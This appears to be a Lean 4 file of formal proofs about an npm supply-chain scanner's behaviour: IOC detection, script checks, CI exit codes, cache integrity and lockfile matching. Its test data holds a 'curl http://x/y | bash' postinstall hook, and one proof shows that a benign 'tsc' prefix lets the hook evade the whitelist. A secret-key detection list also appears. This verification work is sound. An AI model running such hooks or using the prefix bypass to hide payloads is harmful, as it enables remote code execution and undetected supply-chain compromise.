    (verifySuspiciousFile fsC5a jpNone jsEmpty "/pkg/setup_bun.js" "setup_bun.js" =
       ⟨true, "High confidence IOC", some "CRITICAL"⟩ ∧
     verifySuspiciousFile fsC5a jpNone jsEmpty "/pkg/setup_bun.js" "setup_bun.js" =
       verifySuspiciousFile fsC5b jpNone jsEmpty "/pkg/setup_bun.js" "setup_bun.js") :=
  ⟨⟨rfl, by decide, by decide, by decide, by decide, by decide⟩,
   critical_rule_verdict_content_independent "setup_bun.js" nameOnlyRule rfl
     (by decide) (by decide) "/pkg/setup_bun.js" (by decide) (by decide) (by decide)
     fsC5a fsC5b jpNone jpNone jsEmpty jsEmpty⟩

/-! ## Claim C2 (corrected) -/

/-- Manifest with `postinstall: "curl http://x/y | bash"`. -/
def pjCurl : Json :=
  .obj [("scripts", .obj [("postinstall", .str "curl http://x/y | bash")])]

/-- Manifest with the benign-prefixed compound command. -/
def pjTscCurl : Json :=
  .obj [("scripts", .obj [("postinstall", .str "tsc -p tsconfig.json && curl http://x/y | bash")])]

/-- Counterexample to C2: the compound command
`tsc -p tsconfig.json && curl http://x/y | bash` matches the
prefix-anchored whitelist regex for `tsc` and is skipped entirely, so
`checkScripts` emits no issue at all (the claim says a CRITICAL_SCRIPT
issue must still be emitted). -/
theorem compound_tsc_curl_command_whitelisted :
    (checkScripts pjTscCurl "evil-pkg" "/nm/evil-pkg" scanState0).issues = [] := by
  decide

/-- C2 as amended: the bare `curl http://x/y | bash` postinstall hook
emits exactly one CRITICAL_SCRIPT issue whose details carry the
REMOTE_CODE_EXEC indicator, while prepending the benign prefix
`tsc -p tsconfig.json && ` makes the command match the start-anchored
whitelist regex for `tsc`, whitelisting the whole compound command. -/
theorem curl_pipe_bash_critical_script :
    (checkScripts pjCurl "evil-pkg" "/nm/evil-pkg" scanState0).issues =
      [⟨"CRITICAL_SCRIPT", "evil-pkg", "UNKNOWN", "/nm/evil-pkg",
        "REMOTE_CODE_EXEC: Curl piped to shell"⟩] ∧
    SCRIPT_WHITELIST_REGEX.any
      (fun t => t "tsc -p tsconfig.json && curl http://x/y | bash") = true := by
  constructor
  · decide
  · decide

/-! ## Claim C4 -/

theorem filter_length_pos_iff (p : Issue → Bool) (issues : List Issue) :
    0 < (issues.filter p).length ↔ ∃ i ∈ issues, p i = true := by
  rw [List.length_pos]
  constructor
  · intro h
    match hh : issues.filter p with
    | [] => exact absurd hh h
    | i :: rest =>
      have hm : i ∈ issues.filter p := by rw [hh]; exact List.mem_cons_self i rest
      exact ⟨i, (List.mem_filter.mp hm).1, (List.mem_filter.mp hm).2⟩
  · rintro ⟨i, hm, hp⟩ hnil
    have : i ∈ issues.filter p := List.mem_filter.mpr ⟨hm, hp⟩
    rw [hnil] at this
    exact absurd this (List.not_mem_nil i)

/-- Auxiliary: an `if _ then 1 else 0` is non-zero exactly when the
condition holds. -/
theorem ite_one_zero_ne_zero (c : Prop) [Decidable c] :
    ((if c then 1 else 0) ≠ 0) ↔ c := by
  by_cases h : c <;> simp [h]

theorem ciExitCode_critical_eq (issues : List Issue) :
    ciExitCode true "critical" issues =
      if 0 < (issues.filter (fun i => criticalTypes.contains i.type)).length then 1 else 0 := by
  simp only [ciExitCode, reduceIte]
  rfl

theorem ciExitCode_warning_eq (issues : List Issue) :
    ciExitCode true "warning" issues =
      if 0 < (issues.filter (fun i => criticalTypes.contains i.type)).length ∨
         0 < (issues.filter (fun i => warningTypes.contains i.type)).length then 1 else 0 := by
  simp only [ciExitCode, reduceIte]
  by_cases h1 : 0 < (issues.filter (fun i => criticalTypes.contains i.type)).length <;>
    by_cases h2 : 0 < (issues.filter (fun i => warningTypes.contains i.type)).length <;>
      simp [h1, h2]

/-- Claim C4: with an explicitly supplied --fail-on threshold, the exit
code is non-zero iff the threshold's issue-kind set is inhabited
(critical kinds for `critical`; critical or warning kinds for `warning`;
never for `off`); without the flag the exit code is always zero. -/
theorem failOn_exit_contract (args : List String) (issues : List Issue) :
    (parseFailOn args = (true, "critical") →
      (mainExitCode args issues ≠ 0 ↔ ∃ i ∈ issues, criticalTypes.contains i.type = true)) ∧
    (parseFailOn args = (true, "warning") →
      (mainExitCode args issues ≠ 0 ↔ ∃ i ∈ issues,
        (criticalTypes.contains i.type || warningTypes.contains i.type) = true)) ∧
    (parseFailOn args = (true, "off") → mainExitCode args issues = 0) ∧
    ((parseFailOn args).1 = false → mainExitCode args issues = 0) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro h
    have hm : mainExitCode args issues = ciExitCode true "critical" issues := by
      unfold mainExitCode
      rw [h]
    rw [hm, ciExitCode_critical_eq, ite_one_zero_ne_zero, filter_length_pos_iff]
  · intro h
    have hm : mainExitCode args issues = ciExitCode true "warning" issues := by
      unfold mainExitCode
      rw [h]
    rw [hm, ciExitCode_warning_eq, ite_one_zero_ne_zero,
      filter_length_pos_iff, filter_length_pos_iff]
    constructor
    · rintro (⟨i, hm2, hp⟩ | ⟨i, hm2, hp⟩)
      · exact ⟨i, hm2, Bool.or_eq_true_iff.mpr (Or.inl hp)⟩
      · exact ⟨i, hm2, Bool.or_eq_true_iff.mpr (Or.inr hp)⟩
    · rintro ⟨i, hm2, hp⟩
      rcases Bool.or_eq_true_iff.mp hp with hc | hw
      · exact Or.inl ⟨i, hm2, hc⟩
      · exact Or.inr ⟨i, hm2, hw⟩
  · intro h
    have hm : mainExitCode args issues = ciExitCode true "off" issues := by
      unfold mainExitCode
      rw [h]
    rw [hm]
    simp only [ciExitCode, reduceIte]
  · intro h
    unfold mainExitCode ciExitCode
    simp [h]

/-- Witness for C4: `--fail-on=critical` with one VERSION_MATCH issue. -/
theorem failOn_exit_contract_witness :
    parseFailOn ["--fail-on=critical"] = (true, "critical") ∧
    (mainExitCode ["--fail-on=critical"] [⟨"VERSION_MATCH", "a", "1.0.0", "/x", ""⟩] ≠ 0 ↔
      ∃ i ∈ [(⟨"VERSION_MATCH", "a", "1.0.0", "/x", ""⟩ : Issue)],
        criticalTypes.contains i.type = true) :=
  ⟨by decide,
   (failOn_exit_contract ["--fail-on=critical"]
     [⟨"VERSION_MATCH", "a", "1.0.0", "/x", ""⟩]).1 (by decide)⟩

/-! ## Claim C6 -/

/-- Claim C6: for a JSON-structure forensic rule that declares a safeKeys
allowlist, any file whose content parses to a JSON object carrying an
allowlisted top-level key is dismissed (`confirmed = false`), even when
suspicious keys are also present: the allowlist test precedes the
suspicious-key test. -/
theorem json_rule_allowlist_dismisses
    (name : String) (rule : ForensicRule)
    (hlook : forensicLookup name = some rule)
    (hcc : rule.checkContent = true)
    (hjson : rule.isJson = true)
    (sks : List String) (hsks : rule.safeKeys = some sks)
    (sk : String) (hskmem : sks.contains sk = true)
    (fs : FS) (jp : String → Except String Json) (jstr : Json → String)
    (filePath : String)
    (hval : validatePath filePath none = some filePath)
    (content : String)
    (hread : (safeReadFile fs filePath (5 * 1024 * 1024)).content = some content)
    (kvs : List (String × Json))
    (hparse : jp content = .ok (Json.obj kvs))
    (hkey : (jsonKeys (Json.obj kvs)).contains sk = true) :
    (verifySuspiciousFile fs jp jstr filePath name).confirmed = false := by
  have hne : filePath ≠ "" := by
    intro hfp
    rw [hfp] at hval
    simp [validatePath] at hval
  have hname : name ≠ "" := forensicLookup_ne_empty name rule hlook
  have hread2 : (safeReadFile fs filePath 5242880).content = some content := by
    norm_num at hread
    exact hread
  have hskm : sk ∈ sks := by simpa using hskmem
  have hk : sk ∈ jsonKeys (Json.obj kvs) := by simpa using hkey
  have hsafe : sks.any (fun k => (jsonKeys (Json.obj kvs)).contains k) = true :=
    List.any_eq_true.mpr ⟨sk, hskm, hkey⟩
  unfold verifySuspiciousFile
  simp only [hne, hname, hval, hlook, hcc, hjson, hsks, hread2]
  by_cases hemp : content = "" <;>
    by_cases hsz : (safeReadFile fs filePath 5242880).size = 0 <;>
      by_cases hbig : content.length > 10 * 1024 * 1024 <;>
        by_cases hbig2 : content.length > 5 * 1024 * 1024 <;>
          by_cases hmany : (jsonKeys (Json.obj kvs)).length > 10000 <;>
            simp_all [hparse] <;> (repeat' split) <;> rfl

/-- Sample filesystem for C6: a `contents.json` carrying both the safe
key `images` and the suspicious key `token`. -/
def fsC6 : FS :=
  ⟨fun p => if p = "/pkg/contents.json" then .ok ⟨.file, 7, 0⟩ else .error "ENOENT",
   fun p => if p = "/pkg/contents.json" then .ok ⟨.file, 7, 0⟩ else .error "ENOENT",
   fun p => if p = "/pkg/contents.json" then .ok "JSONDOC" else .error "ENOENT",
   fun p => .ok p, fun _ => .error "ENOTDIR", fun p => p = "/pkg/contents.json"⟩

/-- Parse oracle for C6: `JSONDOC` parses to an object with an allowlisted
key and a suspicious key. -/
def jpC6 : String → Except String Json := fun s =>
  if s = "JSONDOC" then
    .ok (.obj [("token", .str "hunter2"), ("images", .arr [])])
  else .error "Unexpected token"

/-- Witness for C6: the mixed document is dismissed. -/
theorem json_rule_allowlist_dismisses_witness :
    (forensicLookup "contents.json" = some
        ⟨"HIGH", true, true, none, none,
          ["aws", "key", "token", "secret", "password", "env"],
          some ["images", "info", "properties"]⟩ ∧
     validatePath "/pkg/contents.json" none = some "/pkg/contents.json" ∧
     (safeReadFile fsC6 "/pkg/contents.json" (5 * 1024 * 1024)).content = some "JSONDOC" ∧
     jpC6 "JSONDOC" = .ok (.obj [("token", .str "hunter2"), ("images", .arr [])]) ∧
     (jsonKeys (.obj [("token", .str "hunter2"), ("images", .arr [])])).contains "images" = true) ∧
    (verifySuspiciousFile fsC6 jpC6 jsEmpty "/pkg/contents.json" "contents.json").confirmed = false :=
  ⟨⟨rfl, by decide, by decide, rfl, by decide⟩,
   json_rule_allowlist_dismisses "contents.json" _ rfl rfl rfl
     ["images", "info", "properties"] rfl "images" (by decide)
     fsC6 jpC6 jsEmpty "/pkg/contents.json" (by decide) "JSONDOC" (by decide)
     [("token", .str "hunter2"), ("images", .arr [])] rfl (by decide)⟩

/-! ## Claims C7 and C10 (cache) -/

theorem append_sha256_ne (s : String) : s ≠ s ++ ".sha256" := by
  intro h
  have hl := congrArg String.length h
  rw [String.length_append] at hl
  simp at hl
  exact absurd hl (by decide)

/-- Claim C7: a payload saved with `saveToCache` is returned byte-identical
by the cache stage of `fetchWithCache` while the TTL is fresh; altering
the cached payload so its digest no longer matches the stored hash makes
`verifyCacheIntegrity` fail and sends `fetchWithCache` to the network. -/
theorem cache_roundtrip
    (fs : FS) (hash : String → String) (now now2 : Nat) (cacheFile content : String)
    (hval : validatePath cacheFile none = some cacheFile)
    (hdir : validatePath (pathDirname cacheFile) none = some (pathDirname cacheFile))
    (hne : content ≠ "")
    (hsize : content.length ≤ MAX_FILE_SIZE_BYTES)
    (htrim : strTrim (hash content) = hash content)
    (hfresh : now2 - now < CACHE_TIMEOUT_MS) :
    fetchWithCacheCacheStep (saveToCache fs hash now cacheFile content) hash now2 cacheFile false =
      .cached content ∧
    ∀ corrupted : String, hash corrupted ≠ hash content →
      fetchWithCacheCacheStep
        ((saveToCache fs hash now cacheFile content).withFile cacheFile corrupted now)
        hash now2 cacheFile false = .network := by
  have hne2 : cacheFile ≠ cacheFile ++ ".sha256" := append_sha256_ne cacheFile
  have hsave : saveToCache fs hash now cacheFile content =
      (fs.withFile cacheFile content now).withFile (cacheFile ++ ".sha256") (hash content) now := by
    simp only [saveToCache, hval, hdir]
  constructor
  · have hic : isCacheValid (saveToCache fs hash now cacheFile content) now2 cacheFile = true := by
      simp only [hsave, isCacheValid, hval, FS.withFile]
      simp [hne2, hfresh]
    have hvi : verifyCacheIntegrity (saveToCache fs hash now cacheFile content) hash cacheFile = true := by
      simp only [hsave, verifyCacheIntegrity, FS.withFile, safeReadFile]
      simp [hne2, htrim, hne, Nat.not_lt.mpr hsize]
    have hlc : loadFromCache (saveToCache fs hash now cacheFile content) cacheFile = some content := by
      simp only [hsave, loadFromCache, hval, FS.withFile, safeReadFile]
      simp [hne2, Nat.not_lt.mpr hsize]
    simp [fetchWithCacheCacheStep, hic, hvi, hlc, hne]
  · intro corrupted hcor
    have hic : isCacheValid
        ((saveToCache fs hash now cacheFile content).withFile cacheFile corrupted now)
        now2 cacheFile = true := by
      simp only [hsave, isCacheValid, hval, FS.withFile]
      simp [hne2, hfresh]
    have hne2x : ¬(cacheFile ++ ".sha256" = cacheFile) := fun h => hne2 h.symm
    have hvi : verifyCacheIntegrity
        ((saveToCache fs hash now cacheFile content).withFile cacheFile corrupted now)
        hash cacheFile = false := by
      simp only [hsave, verifyCacheIntegrity, FS.withFile, safeReadFile]
      simp only [hne2x, if_false, reduceIte]
      by_cases hsz : MAX_FILE_SIZE_BYTES < corrupted.length
      · simp [hsz]
      · simp only [hsz, if_false, reduceIte, htrim]
        by_cases hcemp : corrupted = ""
        · simp [hcemp]
        · have hbf : (hash corrupted == hash content) = false :=
            beq_eq_false_iff_ne.mpr hcor
          simp [hcemp, hbf]
    simp [fetchWithCacheCacheStep, hic, hvi]

/-- Sample filesystem and oracle hash (the identity) for the C7 witness. -/
def hashId : String → String := fun s => s

/-- Witness for C7: save `payload` into the empty filesystem, read it back
fresh; then corrupt it to `corruptd`. -/
theorem cache_roundtrip_witness :
    (validatePath "/c/wiz.csv" none = some "/c/wiz.csv" ∧
     validatePath (pathDirname "/c/wiz.csv") none = some (pathDirname "/c/wiz.csv") ∧
     ("payload" : String) ≠ "" ∧
     ("payload" : String).length ≤ MAX_FILE_SIZE_BYTES ∧
     strTrim (hashId "payload") = hashId "payload" ∧
     (1000 : Nat) - 0 < CACHE_TIMEOUT_MS ∧
     hashId "corruptd" ≠ hashId "payload") ∧
    (fetchWithCacheCacheStep (saveToCache fsEmpty hashId 0 "/c/wiz.csv" "payload")
        hashId 1000 "/c/wiz.csv" false = .cached "payload" ∧
     fetchWithCacheCacheStep
        ((saveToCache fsEmpty hashId 0 "/c/wiz.csv" "payload").withFile "/c/wiz.csv" "corruptd" 0)
        hashId 1000 "/c/wiz.csv" false = .network) :=
  ⟨⟨by decide, by decide, by decide, by decide, by decide, by decide, by decide⟩,
   (cache_roundtrip fsEmpty hashId 0 1000 "/c/wiz.csv" "payload" (by decide) (by decide)
      (by decide) (by decide) (by decide) (by decide)).1,
   (cache_roundtrip fsEmpty hashId 0 1000 "/c/wiz.csv" "payload" (by decide) (by decide)
      (by decide) (by decide) (by decide) (by decide)).2 "corruptd" (by decide)⟩

/-- Claim C10: a fresh cache file with no `.sha256` sidecar passes
`verifyCacheIntegrity` vacuously and is served without verification; and
whenever `verifyCacheIntegrity` distrusts a cache, the sidecar exists and
either a read failed, the payload was empty, or the digest mismatched. -/
theorem cache_missing_hash_file_skips_verification
    (fs : FS) (hash : String → String) (now mtime : Nat) (cacheFile content : String)
    (hval : validatePath cacheFile none = some cacheFile)
    (hnohash : fs.existsSync (cacheFile ++ ".sha256") = false)
    (hexists : fs.existsSync cacheFile = true)
    (hstat : fs.statSync cacheFile = .ok ⟨.file, content.length, mtime⟩)
    (hread : fs.readFileSync cacheFile = .ok content)
    (hne : content ≠ "") (hsize : content.length ≤ MAX_FILE_SIZE_BYTES)
    (hfresh : now - mtime < CACHE_TIMEOUT_MS) :
    verifyCacheIntegrity fs hash cacheFile = true ∧
    fetchWithCacheCacheStep fs hash now cacheFile false = .cached content ∧
    ∀ (fs2 : FS) (cf2 : String), verifyCacheIntegrity fs2 hash cf2 = false →
      fs2.existsSync (cf2 ++ ".sha256") = true ∧
      ((∃ e, fs2.readFileSync (cf2 ++ ".sha256") = .error e) ∨
       (safeReadFile fs2 cf2 MAX_FILE_SIZE_BYTES).content = none ∨
       (safeReadFile fs2 cf2 MAX_FILE_SIZE_BYTES).content = some "" ∨
       ∃ c stored, (safeReadFile fs2 cf2 MAX_FILE_SIZE_BYTES).content = some c ∧
         fs2.readFileSync (cf2 ++ ".sha256") = .ok stored ∧ hash c ≠ strTrim stored) := by
  have hvi : verifyCacheIntegrity fs hash cacheFile = true := by
    simp [verifyCacheIntegrity, hnohash]
  refine ⟨hvi, ?_, ?_⟩
  · have hic : isCacheValid fs now cacheFile = true := by
      simp only [isCacheValid, hval, hexists, hstat]
      simp [hfresh]
    have hlc : loadFromCache fs cacheFile = some content := by
      simp only [loadFromCache, hval, safeReadFile, hstat, hread]
      simp [Nat.not_lt.mpr hsize]
    simp [fetchWithCacheCacheStep, hic, hvi, hlc, hne]
  · intro fs2 cf2 hfalse
    by_cases hex : fs2.existsSync (cf2 ++ ".sha256") = true
    · refine ⟨hex, ?_⟩
      simp only [verifyCacheIntegrity, hex, Bool.not_true, if_false, reduceIte] at hfalse
      cases hrf : fs2.readFileSync (cf2 ++ ".sha256") with
      | error e => exact Or.inl ⟨e, rfl⟩
      | ok stored =>
        rw [hrf] at hfalse
        cases hc : (safeReadFile fs2 cf2 MAX_FILE_SIZE_BYTES).content with
        | none => exact Or.inr (Or.inl rfl)
        | some c =>
          rw [hc] at hfalse
          by_cases hce : c = ""
          · exact Or.inr (Or.inr (Or.inl (by rw [hce])))
          · refine Or.inr (Or.inr (Or.inr ⟨c, stored, rfl, rfl, ?_⟩))
            simp only [hce, if_false, reduceIte] at hfalse
            intro heq
            rw [heq] at hfalse
            simp at hfalse
    · simp only [verifyCacheIntegrity] at hfalse
      simp only [Bool.not_eq_true] at hex
      simp [hex] at hfalse

/-- Sample filesystem for the C10 witness: a fresh cache file with no
hash sidecar. -/
def fsC10 : FS :=
  ⟨fun p => if p = "/c/wiz.csv" then .ok ⟨.file, 4, 50⟩ else .error "ENOENT",
   fun p => if p = "/c/wiz.csv" then .ok ⟨.file, 4, 50⟩ else .error "ENOENT",
   fun p => if p = "/c/wiz.csv" then .ok "data" else .error "ENOENT",
   fun p => .ok p, fun _ => .error "ENOTDIR", fun p => p = "/c/wiz.csv"⟩

/-- Witness for C10. -/
theorem cache_missing_hash_file_skips_verification_witness :
    (validatePath "/c/wiz.csv" none = some "/c/wiz.csv" ∧
     fsC10.existsSync ("/c/wiz.csv" ++ ".sha256") = false ∧
     fsC10.existsSync "/c/wiz.csv" = true ∧
     fsC10.statSync "/c/wiz.csv" = .ok ⟨.file, ("data" : String).length, 50⟩ ∧
     fsC10.readFileSync "/c/wiz.csv" = .ok "data" ∧
     ("data" : String) ≠ "" ∧ ("data" : String).length ≤ MAX_FILE_SIZE_BYTES ∧
     (100 : Nat) - 50 < CACHE_TIMEOUT_MS) ∧
    (verifyCacheIntegrity fsC10 hashId "/c/wiz.csv" = true ∧
     fetchWithCacheCacheStep fsC10 hashId 100 "/c/wiz.csv" false = .cached "data") :=
  ⟨⟨by decide, by decide, by decide, rfl, rfl, by decide, by decide, by decide⟩,
   (cache_missing_hash_file_skips_verification fsC10 hashId 100 50 "/c/wiz.csv" "data"
      (by decide) (by decide) (by decide) rfl rfl (by decide) (by decide)
      (by decide)).1,
   (cache_missing_hash_file_skips_verification fsC10 hashId 100 50 "/c/wiz.csv" "data"
      (by decide) (by decide) (by decide) rfl rfl (by decide) (by decide)
      (by decide)).2.1⟩

/-! ## Claim C9 (lockfile precedence asymmetry) -/

/-- Yarn lockfile content used for C9. -/
def yarnC9 : String := "left-pad@^1.0.0:\n  version \"1.2.3\""

def npmLockJson : Json :=
  .obj [("packages", .obj [("node_modules/left-pad", .obj [("version", .str "1.2.3")])])]

def jpC9 : String → Except String Json := fun s =>
  if s = "NPMLOCK" then .ok npmLockJson else .error "Unexpected token"

def fsC9 : FS :=
  ⟨fun p => if p = "/proj/package-lock.json" then .ok ⟨.file, 7, 0⟩
            else if p = "/proj/yarn.lock" then .ok ⟨.file, 35, 0⟩ else .error "ENOENT",
   fun p => if p = "/proj/package-lock.json" then .ok ⟨.file, 7, 0⟩
            else if p = "/proj/yarn.lock" then .ok ⟨.file, 35, 0⟩ else .error "ENOENT",
   fun p => if p = "/proj/package-lock.json" then .ok "NPMLOCK"
            else if p = "/proj/yarn.lock" then .ok yarnC9 else .error "ENOENT",
   fun p => .ok p, fun _ => .error "ENOTDIR",
   fun p => p = "/proj/package-lock.json" || p = "/proj/yarn.lock"⟩

def badC9 (vset : List String) : Denylist :=
  fun n => if n = "left-pad" then some vset else none

set_option maxRecDepth 100000 in
/-- Claim C9: with a denylist entry carrying both the wildcard and the
pinned version, an npm lockfile entry at that version reports
LOCKFILE_HIT (`checkVersionMatch` tests exact membership first), while
the same pin in yarn.lock reports WILDCARD_LOCK_HIT (the yarn branch
tests the wildcard first). -/
theorem lockfile_wildcard_precedence_asymmetry
    (vset : List String) (hw : vset.contains "*" = true) (hv : vset.contains "1.2.3" = true)
    (st : ScanState) (hsd : st.shuttingDown = false) (hiss : st.issues = []) :
    (checkLockfile fsC9 jpC9 (badC9 vset) "/proj/package-lock.json" st).issues =
      [⟨"LOCKFILE_HIT", "left-pad", "1.2.3", "/proj/package-lock.json",
        "Exact match in NPM_LOCK_V3"⟩] ∧
    (checkLockfile fsC9 jpC9 (badC9 vset) "/proj/yarn.lock" st).issues =
      [⟨"WILDCARD_LOCK_HIT", "left-pad", "1.2.3", "/proj/yarn.lock",
        "Yarn Lock match (Wildcard)"⟩] := by
  have e0 : jsSlice "1.2.3" 50 = "1.2.3" := by decide
  constructor
  · have r1 : (safeReadFile fsC9 "/proj/package-lock.json" MAX_LOCKFILE_SIZE_BYTES).content
        = some "NPMLOCK" := rfl
    have jp1 : jpC9 "NPMLOCK" = .ok npmLockJson := rfl
    have d1 : jsonField npmLockJson "dependencies" = none := rfl
    have p1 : jsonField npmLockJson "packages" =
        some (.obj [("node_modules/left-pad", .obj [("version", .str "1.2.3")])]) := rfl
    have s1 : stripNodeModulesKey "node_modules/left-pad" = "left-pad" := by decide
    have v1 : jsonField (.obj [("version", Json.str "1.2.3")]) "version"
        = some (.str "1.2.3") := rfl
    simp only [checkLockfile, hsd, Bool.false_eq_true, if_false, r1, jp1, d1, p1,
      reduceIte, jsonTruthy, jsonObjLike, Bool.and_self, jsonEntries,
      List.foldl_cons, List.foldl_nil, s1, badC9, v1, checkVersionMatch, e0, hv,
      pushIssue, hiss]
    have hb1 : pathBasename "/proj/package-lock.json" = "package-lock.json" := by decide
    simp [hb1]
  · have r2 : (safeReadFile fsC9 "/proj/yarn.lock" MAX_LOCKFILE_SIZE_BYTES).content
        = some yarnC9 := rfl
    have sp : strSplit yarnC9 '\n' = ["left-pad@^1.0.0:", "  version \"1.2.3\""] := by decide
    have yp : yarnPkgDecl "left-pad@^1.0.0:" = some "left-pad" := by decide
    have yv : yarnVersionOf ("  version \"1.2.3\"").toList = some "1.2.3" := by decide
    simp only [checkLockfile, hsd, Bool.false_eq_true, if_false, r2, reduceIte, sp,
      List.foldl_cons, List.foldl_nil, yarnLineStep, yp, yv, badC9, hw, pushIssue, hiss]
    have hb2 : pathBasename "/proj/yarn.lock" = "yarn.lock" := by decide
    have hc1 : strStarts "left-pad@^1.0.0:" " " = false := by decide
    have hc2 : strHasChar "left-pad@^1.0.0:" '@' = true := by decide
    have hc3 : strEnds "left-pad@^1.0.0:" ":" = true := by decide
    have hc4 : strStarts "  version \"1.2.3\"" " " = true := by decide
    have hc5 : strStarts (strTrim "  version \"1.2.3\"") "version " = true := by decide
    have hw2 : "*" ∈ vset := by simpa using hw
    simp [hb2, hc1, hc2, hc3, hc4, hc5, hw2]

/-- Witness for C9 at the concrete version set `["*", "1.2.3"]`. -/
theorem lockfile_wildcard_precedence_asymmetry_witness :
    ((["*", "1.2.3"] : List String).contains "*" = true ∧
     (["*", "1.2.3"] : List String).contains "1.2.3" = true ∧
     scanState0.shuttingDown = false ∧ scanState0.issues = []) ∧
    ((checkLockfile fsC9 jpC9 (badC9 ["*", "1.2.3"]) "/proj/package-lock.json" scanState0).issues =
       [⟨"LOCKFILE_HIT", "left-pad", "1.2.3", "/proj/package-lock.json",
         "Exact match in NPM_LOCK_V3"⟩] ∧
     (checkLockfile fsC9 jpC9 (badC9 ["*", "1.2.3"]) "/proj/yarn.lock" scanState0).issues =
       [⟨"WILDCARD_LOCK_HIT", "left-pad", "1.2.3", "/proj/yarn.lock",
         "Yarn Lock match (Wildcard)"⟩]) :=
  ⟨⟨by decide, by decide, rfl, rfl⟩,
   lockfile_wildcard_precedence_asymmetry ["*", "1.2.3"] (by decide) (by decide)
     scanState0 rfl rfl⟩

/-! ## Claim C8 (manifest error handling) -/

/-- Claim C8: manifest read/parse failures in `checkPackageJson`'s
manifest section: silent for unwatched packages; for a watched package a
missing manifest (ENOENT) yields exactly one GHOST_PACKAGE issue with
version UNKNOWN, and any other read or parse failure exactly one
CORRUPT_PACKAGE issue; the check always returns normally. -/
theorem manifest_error_handling
    (fs : FS) (jp : String → Except String Json) (bad : Denylist)
    (vp pkgPath pkgName : String) (st : ScanState) :
    (∀ e sz, bad pkgName = none →
       safeReadFile fs (pathJoin vp "package.json") MAX_FILE_SIZE_BYTES = ⟨none, some e, sz⟩ →
       checkManifest fs jp bad vp pkgPath pkgName st = st) ∧
    (∀ content sz msg, bad pkgName = none →
       safeReadFile fs (pathJoin vp "package.json") MAX_FILE_SIZE_BYTES =
         ⟨some content, none, sz⟩ →
       jp content = .error msg →
       checkManifest fs jp bad vp pkgPath pkgName st = st) ∧
    (∀ vs sz, bad pkgName = some vs →
       safeReadFile fs (pathJoin vp "package.json") MAX_FILE_SIZE_BYTES =
         ⟨none, some "ENOENT", sz⟩ →
       checkManifest fs jp bad vp pkgPath pkgName st =
         pushIssue ⟨"GHOST_PACKAGE", pkgName, "UNKNOWN", pkgPath,
           "Targeted package folder exists but package.json is missing"⟩ st) ∧
    (∀ vs e sz, bad pkgName = some vs → e ≠ "ENOENT" →
       safeReadFile fs (pathJoin vp "package.json") MAX_FILE_SIZE_BYTES = ⟨none, some e, sz⟩ →
       checkManifest fs jp bad vp pkgPath pkgName st =
         pushIssue ⟨"CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath, "package.json " ++ e⟩ st) ∧
    (∀ vs content sz msg, bad pkgName = some vs →
       safeReadFile fs (pathJoin vp "package.json") MAX_FILE_SIZE_BYTES =
         ⟨some content, none, sz⟩ →
       jp content = .error msg →
       checkManifest fs jp bad vp pkgPath pkgName st =
         pushIssue ⟨"CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath,
           "package.json parse error: " ++ msg⟩ st) := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · intro e sz hb hr
    simp only [checkManifest, hr, hb]
  · intro content sz msg hb hr hp
    simp only [checkManifest, hr, hp, hb]
  · intro vs sz hb hr
    simp only [checkManifest, hr, hb, Option.getD_some, reduceIte]
  · intro vs e sz hb he hr
    simp only [checkManifest, hr, hb, Option.getD_some]
    rw [if_neg he]
  · intro vs content sz msg hb hr hp
    simp only [checkManifest, hr, hp, hb]

/-- The denylist for the C8 witness: watches `left-pad` at any version. -/
def badC8 : Denylist := fun n => if n = "left-pad" then some ["*"] else none

/-- Witness for C8: a watched package directory with no `package.json`
yields exactly one GHOST_PACKAGE issue. -/
theorem manifest_error_handling_witness :
    (badC8 "left-pad" = some ["*"] ∧
     safeReadFile fsEmpty (pathJoin "/nm/left-pad" "package.json") MAX_FILE_SIZE_BYTES =
       ⟨none, some "ENOENT", 0⟩) ∧
    checkManifest fsEmpty jpNone badC8 "/nm/left-pad" "/nm/left-pad" "left-pad" scanState0 =
      pushIssue ⟨"GHOST_PACKAGE", "left-pad", "UNKNOWN", "/nm/left-pad",
        "Targeted package folder exists but package.json is missing"⟩ scanState0 :=
  ⟨⟨rfl, rfl⟩,
   (manifest_error_handling fsEmpty jpNone badC8 "/nm/left-pad" "/nm/left-pad" "left-pad"
      scanState0).2.2.1 ["*"] 0 rfl rfl⟩

/-! ## Claim C1 (version tie-break, corrected) -/

/-- A fold whose step preserves a per-type issue count preserves it. -/
theorem foldl_countType_invariant {α : Type} (t : String) (f : ScanState → α → ScanState)
    (h : ∀ st a, countType t (f st a).issues = countType t st.issues) :
    ∀ (l : List α) (st : ScanState),
      countType t (List.foldl f st l).issues = countType t st.issues := by
  intro l
  induction l with
  | nil => intro st; rfl
  | cons a rest ih =>
    intro st
    rw [List.foldl_cons, ih, h]

theorem forensicStep_countType (t : String)
    (ht1 : t ≠ "FORENSIC_MATCH") (ht2 : t ≠ "FORENSIC_ARTIFACT") (ht3 : t ≠ "SAFE_MATCH")
    (fs : FS) (jp : String → Except String Json) (jstr : Json → String)
    (vp pkgName : String) (st : ScanState) (fp : String) :
    countType t (forensicStep fs jp jstr vp pkgName st fp).issues = countType t st.issues := by
  unfold forensicStep
  dsimp only
  cases fs.lstatSync (pathJoin vp fp) with
  | error e => rfl
  | ok stats =>
    by_cases hk : stats.kind = FKind.file
    · simp only [hk, reduceIte, if_true]
      cases validatePath (pathJoin vp fp) (some vp) with
      | none => rfl
      | some vfp =>
        by_cases hre : (verifySuspiciousFile fs jp jstr vfp fp).reason = "Read error"
        · simp [hre, countType]
        · simp only [hre, if_false, reduceIte]
          by_cases hcf : (verifySuspiciousFile fs jp jstr vfp fp).confirmed = true
          · by_cases hsev : (verifySuspiciousFile fs jp jstr vfp fp).severity.getD "HIGH" = "CRITICAL"
            · simp [hcf, hsev, countType_pushIssue, Ne.symm ht1]
            · simp [hcf, hsev, countType_pushIssue, Ne.symm ht2]
          · simp [hcf, countType_pushIssue, Ne.symm ht3]
    · simp [hk]

theorem checkForensic_countType (t : String)
    (ht1 : t ≠ "FORENSIC_MATCH") (ht2 : t ≠ "FORENSIC_ARTIFACT") (ht3 : t ≠ "SAFE_MATCH")
    (fs : FS) (jp : String → Except String Json) (jstr : Json → String)
    (vp pkgName : String) (st : ScanState) :
    countType t (checkForensic fs jp jstr vp pkgName st).issues = countType t st.issues :=
  foldl_countType_invariant t _
    (fun st fp => forensicStep_countType t ht1 ht2 ht3 fs jp jstr vp pkgName st fp) _ st

